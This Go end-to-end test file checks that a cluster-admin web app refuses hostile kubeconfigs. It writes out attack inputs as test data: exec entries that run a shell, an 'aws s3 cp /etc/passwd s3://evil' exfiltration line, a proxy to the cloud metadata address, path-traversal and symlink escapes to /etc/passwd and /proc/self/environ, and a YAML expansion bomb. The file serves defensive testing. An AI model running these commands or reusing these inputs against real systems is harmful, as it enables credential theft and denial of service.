package e2e

import (
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"k8s.io/client-go/tools/clientcmd/api"

	"portolan/internal/clustertest"
)

// TestAttack01NothingOfAKubeconfigIsRunOrRead: programs, plugins and files that
// an uploaded or mounted kubeconfig names are left alone, and it is refused at
// the field that brought it.
func TestAttack01NothingOfAKubeconfigIsRunOrRead(t *testing.T) {
	t.Parallel()
	p := shared(t)
	canary := filepath.Join(t.TempDir(), "ran")
	outside := filepath.Join(t.TempDir(), "token")
	if err := os.WriteFile(outside, []byte("a-token-from-outside"), 0o600); err != nil {
		t.Fatal(err)
	}
	user := func(change func(*api.AuthInfo)) string {
		return string(clustertest.Edit(t, real.kubeconfig(t), func(c *api.Config) {
			for _, u := range c.AuthInfos {
				change(u)
			}
		}))
	}
	run := func(command string, args ...string) string {
		return user(func(u *api.AuthInfo) {
			*u = api.AuthInfo{Exec: &api.ExecConfig{
				Command: command, Args: args, APIVersion: "client.authentication.k8s.io/v1", InteractiveMode: api.NeverExecInteractiveMode,
			}}
		})
	}
	for name, raw := range map[string]string{
		"a shell":        run("/bin/sh", "-c", "touch "+canary),
		"a program":      run("touch", canary),
		"aws, but other": run("aws", "s3", "cp", "/etc/passwd", "s3://evil"),
		"auth-provider": user(func(u *api.AuthInfo) {
			*u = api.AuthInfo{AuthProvider: &api.AuthProviderConfig{Name: "gcp", Config: map[string]string{"cmd-path": "/usr/bin/touch", "cmd-args": canary}}}
		}),
		"tokenFile":   user(func(u *api.AuthInfo) { *u = api.AuthInfo{TokenFile: outside} }),
		"certificate": user(func(u *api.AuthInfo) { *u = api.AuthInfo{ClientCertificate: outside, ClientKey: outside} }),
		"user name":   user(func(u *api.AuthInfo) { *u = api.AuthInfo{Username: "admin", Password: "s3cr3t"} }),
		"impersonate": user(func(u *api.AuthInfo) { u.Impersonate = "system:admin" }),
	} {
		for _, mode := range []string{"encrypted", "mounted"} {
			id := clustertest.UniqueName("runs")
			form := fields{
				"id": id, "label": name, "provider": "kubernetes", "credential_mode": mode, "namespace": "default",
				"exposure_mode": "cluster-ip", "enabled": "true", "allow_tls_skip": "true", "allow_proxy": "true",
			}
			field := "kubeconfig"
			if form[field] = raw; mode == "mounted" {
				delete(form, field)
				field = "kubeconfig_path"
				p.mount(t, id, []byte(raw))
				form[field] = id
			}
			answer := p.post(t, "/admin/clusters", form)
			if answer.status != http.StatusUnprocessableEntity || answer.problem(field) == "" {
				t.Errorf("%s, %s: %d %s", name, mode, answer.status, clipped(answer.text()))
			}
			for _, page := range []*page{answer, p.post(t, "/admin/clusters/inspect", form)} {
				if strings.Contains(page.body, "a-token-from-outside") || strings.Contains(page.body, "s3cr3t") {
					t.Errorf("%s, %s: a secret is shown", name, mode)
				}
			}
		}
	}
	if _, err := os.Stat(canary); err == nil {
		t.Error("a program was run")
	}
}

// eavesdropper is a server that counts who speaks to it.
func eavesdropper(t *testing.T, ours authority) (addr string, heard *atomic.Int64) {
	t.Helper()
	heard = &atomic.Int64{}
	return https(t, ours.serving(t, time.Now().Add(24*time.Hour)), func(w http.ResponseWriter, _ *http.Request) {
		heard.Add(1)
		w.WriteHeader(http.StatusUnauthorized)
	}), heard
}

// TestAttack02AStoredSecretIsNotRepointed: no form leads a stored credential to
// a server that came without one.
func TestAttack02AStoredSecretIsNotRepointed(t *testing.T) {
	t.Parallel()
	p := shared(t)
	ours := newAuthority(t)
	good, goodHeard := eavesdropper(t, ours)
	evil, evilHeard := eavesdropper(t, ours)
	id := clustertest.UniqueName("repointed")
	pl := &place{portolan: p, id: id}
	form := fields{
		"id": id, "label": id, "provider": "kubernetes", "credential_mode": "encrypted", "kubeconfig": string(ours.kubeconfig(t, good)),
		"namespace": "default", "exposure_mode": "cluster-ip", "enabled": "true",
	}
	expect(t, p.post(t, "/admin/clusters", form), http.StatusSeeOther)
	pl.test(t, "failed")
	if goodHeard.Load() == 0 {
		t.Fatal("the server is not spoken to")
	}

	without := clustertest.Edit(t, ours.kubeconfig(t, evil), func(c *api.Config) { c.AuthInfos["me"] = &api.AuthInfo{} })
	missing := clustertest.Edit(t, ours.kubeconfig(t, evil), func(c *api.Config) { clear(c.AuthInfos) })
	for name, changes := range map[string]fields{
		"a server without a user":       {"kubeconfig": string(missing)},
		"a server with an empty user":   {"kubeconfig": string(without)},
		"a server of its own":           {"server": "https://" + evil, "cluster_name": "https://" + evil},
		"a mounted file without a user": {"credential_mode": "mounted", "kubeconfig_path": id},
	} {
		p.mount(t, id, without)
		answer := pl.tryEdit(t, changes)
		if changes["server"] == "" && answer.status != http.StatusUnprocessableEntity {
			t.Errorf("%s: %d", name, answer.status)
		}
		expect(t, pl.post(t, pl.path("/test"), nil), http.StatusSeeOther)
		pl.tested(t, "failed")
	}
	for name, rotated := range map[string]fields{
		"without a user":     {"credential_mode": "encrypted", "kubeconfig": string(missing)},
		"with an empty user": {"credential_mode": "encrypted", "kubeconfig": string(without)},
		"with nothing":       {"credential_mode": "encrypted", "server": "https://" + evil},
	} {
		if answer := pl.post(t, pl.path("/credential"), rotated); answer.status == http.StatusSeeOther || answer.status == http.StatusOK {
			t.Errorf("rotated %s: %d", name, answer.status)
		}
	}
	// Mounted and back: the sealed one is gone, and has to be entered again.
	p.mount(t, id, ours.kubeconfig(t, evil))
	pl.edit(t, fields{"credential_mode": "mounted", "kubeconfig_path": id})
	if answer := pl.tryEdit(t, fields{"credential_mode": "encrypted", "kubeconfig": ""}); answer.status != http.StatusUnprocessableEntity {
		t.Errorf("back to a sealed one that was dropped: %d", answer.status)
	}
	if evilHeard.Load() != 0 {
		t.Error("another server heard the stored credential")
	}
}

// TestAttack03WhatIsWeakerNeedsATick: insecure-skip-tls-verify and proxy-url are
// refused without a tick of an admin, shown with one, and tested again without.
func TestAttack03WhatIsWeakerNeedsATick(t *testing.T) {
	t.Parallel()
	p := shared(t)
	ours := newAuthority(t)
	server, _ := eavesdropper(t, ours)
	weak := func(change func(*api.Cluster)) string {
		return string(clustertest.Edit(t, ours.kubeconfig(t, server), func(c *api.Config) { change(c.Clusters["it"]) }))
	}
	for field, c := range map[string]struct{ raw, mark, says string }{
		"allow_tls_skip": {weak(func(c *api.Cluster) { c.CertificateAuthorityData, c.InsecureSkipTLSVerify = nil, true }), "tls-skip", "not checked"},
		"allow_proxy":    {weak(func(c *api.Cluster) { c.ProxyURL = "http://169.254.169.254:3128" }), "proxy", "link-local"},
	} {
		id := clustertest.UniqueName("weak")
		pl := &place{portolan: p, id: id}
		form := fields{
			"id": id, "label": id, "provider": "kubernetes", "credential_mode": "encrypted", "kubeconfig": c.raw,
			"namespace": "default", "exposure_mode": "cluster-ip", "enabled": "true",
		}
		if answer := p.post(t, "/admin/clusters", form); answer.status != http.StatusUnprocessableEntity || !strings.Contains(answer.problem("kubeconfig"), "tick") {
			t.Errorf("%s: without the tick: %d %s", field, answer.status, answer.problem("kubeconfig"))
		}
		expect(t, p.post(t, "/admin/clusters", form.but(fields{field: "true"})), http.StatusSeeOther)
		pl.test(t, "failed") // the server is none of Kubernetes
		page := pl.read(t, pl.path(""))
		if !page.says(c.says) || !page.has("data-allows", c.mark) {
			t.Errorf("%s: the cluster's page does not say so: %s", field, clipped(page.text()))
		}
		if list := p.read(t, "/admin/clusters?q="+id); !list.has("data-allows", c.mark) {
			t.Errorf("%s: the list does not mark it", field)
		}
		if record := p.read(t, "/admin/audit?target=cluster%2F"+id); !record.says(field) {
			t.Errorf("%s: the record does not hold it: %s", field, clipped(record.text()))
		}
		pl.edit(t, fields{field: ""})
		if state := pl.testState(t); state != "untested" {
			t.Errorf("%s: %s after the tick was taken away", field, state)
		}
		pl.test(t, "failed")
		if stage, says := pl.failedStage(t); stage != "credential" {
			t.Errorf("%s: without the tick it fails at %s: %s", field, stage, says)
		}
	}
}

// TestAttack13HostileFiles: links and paths out of the folder, and YAML that
// grows, are refused, within the time that a page may take.
func TestAttack13HostileFiles(t *testing.T) {
	t.Parallel()
	p := shared(t)
	dir := p.kubeconfigs()
	secret := filepath.Join(t.TempDir(), "secret")
	if err := os.WriteFile(secret, real.kubeconfig(t), 0o600); err != nil {
		t.Fatal(err)
	}
	link := clustertest.UniqueName("link")
	if err := os.Symlink(secret, filepath.Join(dir, link)); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.Remove(filepath.Join(dir, link)) })
	form := func(id string) fields {
		return fields{"id": id, "label": id, "provider": "kubernetes", "namespace": "default", "exposure_mode": "cluster-ip", "enabled": "true"}
	}
	up := strings.Repeat("../", 12)
	for _, path := range []string{link, up + strings.TrimPrefix(secret, "/"), secret, "/etc/passwd", link + "/../" + link, ".", "", "a\x00b", "/proc/self/environ", "..%2f..%2fetc/passwd"} {
		answer := p.post(t, "/admin/clusters", form(clustertest.UniqueName("path")).but(fields{"credential_mode": "mounted", "kubeconfig_path": path}))
		if answer.status != http.StatusUnprocessableEntity || answer.problem("kubeconfig_path") == "" {
			t.Errorf("path %q: %d", path, answer.status)
		}
	}
	bomb := "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n"
	for i := 1; i < 12; i++ {
		bomb += fmt.Sprintf("a%d: &a%d [*a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d]\n", i, i, i-1, i-1, i-1, i-1, i-1, i-1, i-1, i-1, i-1, i-1)
	}
	for name, raw := range map[string]string{
		"grows": bomb, "deep": strings.Repeat("[", 400_000), "deeper": strings.Repeat("a: {", 200_000), "wide": strings.Repeat("- x\n", 200_000),
		"contains itself": "a: &a [*a]\n", "large": strings.Repeat("x", 2<<20), "many keys": strings.Repeat("? a\n", 200_000),
	} {
		answer := p.post(t, "/admin/clusters", form(clustertest.UniqueName("yaml")).but(fields{"credential_mode": "encrypted", "kubeconfig": raw}))
		if answer.status != http.StatusUnprocessableEntity || answer.problem("kubeconfig") == "" {
			t.Errorf("YAML that %s: %d", name, answer.status)
		}
	}
}
